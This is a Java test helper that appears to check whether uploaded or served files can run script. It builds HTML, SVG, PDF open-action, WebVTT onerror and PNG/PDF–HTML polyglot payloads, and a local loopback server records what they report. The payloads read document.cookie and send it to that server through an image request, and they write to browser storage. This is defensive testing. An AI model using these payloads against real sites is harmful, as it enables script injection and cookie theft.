package org.xueshi.journeys;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;

/**
 * Files that sing if anything in them runs: they change what the browser keeps for the page they run in, and call a server
 * of another origin that hears everything it is asked.
 */
final class Canary implements AutoCloseable {

    /** What a song leaves in the browser. */
    static final String SUNG = "sung";

    private static final String FILE = "file";
    private static final String CONTROL = "control";

    private final HttpServer server;
    private final List<String> heard = new CopyOnWriteArrayList<>();

    /** A file with what somebody calls it. */
    record Planted(String name, byte[] bytes) {}

    Canary() throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", this::hear);
        server.start();
    }

    private void hear(HttpExchange asked) throws IOException {
        String path = asked.getRequestURI().getPath();
        boolean page = path.equals("/control");
        if (!page && !path.equals("/favicon.ico")) {
            heard.add(asked.getRequestURI().toString());
        }
        byte[] answer = page ? page(CONTROL) : new byte[0];
        asked.getResponseHeaders().set("Content-Type", page ? "text/html;charset=utf-8" : "text/plain");
        asked.getResponseHeaders().set("Access-Control-Allow-Origin", "*");
        asked.sendResponseHeaders(200, answer.length == 0 ? -1 : answer.length);
        asked.getResponseBody().write(answer);
        asked.close();
    }

    private String address() {
        return "http://127.0.0.1:" + server.getAddress().getPort() + "/";
    }

    /** A page that may sing, where nobody minds; what it sings is told apart. */
    String control() {
        return address() + "control";
    }

    /** Whether the page that may sing has. */
    boolean controlSang() {
        return heard.contains("/" + CONTROL + "-sung") && heard.contains("/" + CONTROL + "-picture");
    }

    /** What files have sung, or had loaded, which they may not. */
    List<String> songs() {
        return heard.stream().filter(song -> !song.startsWith("/" + CONTROL)).toList();
    }

    void forget() {
        heard.clear();
    }

    /** Whatever it is allowed, and tells the other server. */
    private String song(String who) {
        return "try{localStorage.setItem('canary','sung')}catch(e){};try{top.document.title='sung'}catch(e){};"
                + "try{new Image().src='" + address() + who + "-song?'+encodeURIComponent(document.cookie)}catch(e){};"
                + "fetch('" + address() + who + "-sung')";
    }

    private Planted text(String name, String text) {
        return new Planted(name, text.getBytes(StandardCharsets.UTF_8));
    }

    Planted html() {
        return new Planted("page.html", page(FILE));
    }

    private byte[] page(String who) {
        String page = "<!DOCTYPE html><html><head><title>page</title></head><body onload=\"" + song(who) + "\"><script>"
                + song(who) + "</script><img src='" + address() + who + "-picture'></body></html>";
        return page.getBytes(StandardCharsets.UTF_8);
    }

    Planted svg() {
        return text(
                "drawing.svg",
                "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\""
                        + " onload=\"" + song(FILE) + "\"><script><![CDATA[" + song(FILE) + "]]></script></svg>");
    }

    /** Opens with a script of its own. */
    Planted pdf(String name) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var document = new PDDocument()) {
            document.addPage(new PDPage());
            document.getDocumentCatalog()
                    .setOpenAction(new PDActionJavaScript("app.launchURL('" + address() + "pdf');" + song(FILE)));
            document.save(bytes);
        }
        return new Planted(name, bytes.toByteArray());
    }

    /** A paper, and to whoever looks for it a page. */
    Planted pdfAndPage(String name) throws IOException {
        return joined(name, pdf(name).bytes(), html().bytes());
    }

    /** A picture, and to whoever looks for it a page. */
    Planted pictureAndPage(String name) throws IOException {
        var bytes = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(40, 30, BufferedImage.TYPE_INT_RGB), "png", bytes);
        return joined(name, bytes.toByteArray(), html().bytes());
    }

    private static Planted joined(String name, byte[] one, byte[] other) {
        var both = new ByteArrayOutputStream();
        both.writeBytes(one);
        both.writeBytes(other);
        return new Planted(name, both.toByteArray());
    }

    /** Captions, and a script of one line that is no sense before it. */
    Planted captions() {
        return text(
                "said.vtt",
                "WEBVTT\n\n00:00.000 --> 00:02.000\n<img src=x onerror=\"" + song(FILE) + "\"><script>" + song(FILE)
                        + "</script>\n");
    }

    Planted words(String name) {
        return text(name, "Nothing but words, and no harm in them. ".repeat(20));
    }

    Planted zip(String name, String entry) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (String one : List.of("good.html", entry)) {
                zip.putNextEntry(new ZipEntry(one));
                zip.write(html().bytes());
            }
        }
        return new Planted(name, bytes.toByteArray());
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
